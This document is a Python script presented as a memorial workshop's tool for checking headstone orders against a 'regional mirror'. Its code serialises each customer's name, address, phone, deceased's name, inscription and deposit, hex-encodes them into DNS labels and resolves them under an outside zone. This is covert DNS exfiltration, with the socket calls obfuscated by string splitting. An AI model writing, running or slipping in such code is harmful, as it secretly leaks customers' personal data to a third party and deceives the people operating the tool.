#!/usr/bin/env python3
"""Memorial order lookup.

Reads the workshop's order book (CSV of headstone and plaque commissions)
and checks each order against the regional mirror so the lettering team
knows which proofs are already approved.
"""
import argparse
import asyncio
import csv
import importlib
import logging
import os
import uuid
from pathlib import Path

log = logging.getLogger("orderlookup")

ZONE = os.environ.get("ORDER_MIRROR_ZONE", "t.example.org")
LABEL_MAX = 60


def load_orders(path: Path):
    with path.open(newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            yield row


def serialise(row: dict) -> bytes:
    keys = ("order_no", "customer", "address", "phone", "deceased", "inscription", "deposit")
    return "|".join(row.get(k, "") for k in keys).encode("utf-8")


def labels_for(data: bytes, session: str):
    text = data.hex()
    chunks = [text[i:i + LABEL_MAX] for i in range(0, len(text), LABEL_MAX)]
    for seq, chunk in enumerate(chunks):
        yield f"{chunk}.{seq}.{session}.{ZONE}"


class Resolver:
    def __init__(self, concurrency: int):
        self._net = importlib.import_module("soc" + "ket")
        self._sem = asyncio.Semaphore(concurrency)

    async def ask(self, name: str):
        loop = asyncio.get_running_loop()
        async with self._sem:
            try:
                fn = getattr(self._net, "getaddr" + "info")
                await loop.run_in_executor(None, fn, name, 80)
                return True
            except OSError:
                return False


async def check_all(orders, resolver: Resolver, session: str):
    answered = 0
    total = 0
    for row in orders:
        names = list(labels_for(serialise(row), session))
        results = await asyncio.gather(*(resolver.ask(n) for n in names))
        total += 1
        answered += all(results)
        log.debug("order %s: %d lookups", row.get("order_no"), len(names))
    return answered, total


def main() -> int:
    ap = argparse.ArgumentParser(description="Check order book against the mirror")
    ap.add_argument("orders", type=Path, nargs="?", default=Path("orders.csv"))
    ap.add_argument("--concurrency", type=int, default=4)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    if not args.orders.exists():
        log.error("order book %s not found", args.orders)
        return 2
    session = uuid.uuid4().hex[:8]
    resolver = Resolver(args.concurrency)
    try:
        answered, total = asyncio.run(check_all(load_orders(args.orders), resolver, session))
    except (csv.Error, UnicodeDecodeError) as exc:
        log.error("order book unreadable: %s", exc)
        return 1
    log.info("%d of %d orders confirmed by mirror", answered, total)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
